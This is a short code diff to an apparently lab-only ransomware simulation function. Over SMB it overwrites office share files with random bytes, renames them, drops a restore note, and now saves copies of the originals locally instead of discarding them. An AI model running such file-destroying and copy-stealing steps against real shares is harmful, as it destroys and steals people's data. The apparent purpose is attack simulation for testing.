@@ -363,7 +363,7 @@ def ransom(act, folders):
     note = f"{R}/note.txt"
     with open(note, "w", encoding="ascii") as f:
         f.write("YOUR FILES ARE ENCRYPTED (laboratory)\n")
-    total = 0
+    total, got = 0, f"{R}/got-{act.device.name}"
     for folder in folders:
         files = sorted(os.listdir(f"/srv/office/{folder}"))[:60]
         commands = [f"cd {folder}"]
@@ -372,7 +372,7 @@ def ransom(act, folders):
             local = f"{R}/enc-{name}"
             with open(local, "wb") as f:
                 f.write(r.randbytes(size))
-            commands += [f"get {name} /dev/null", f"put {local} {name}", f"rename {name} {name}.{ext}"]
+            commands += [f"get {name} {got}", f"put {local} {name}", f"rename {name} {name}.{ext}"]
             total += 1
         commands.append(f"put {note} HOW_TO_RESTORE.txt")
         life.smb(act, "; ".join(commands))
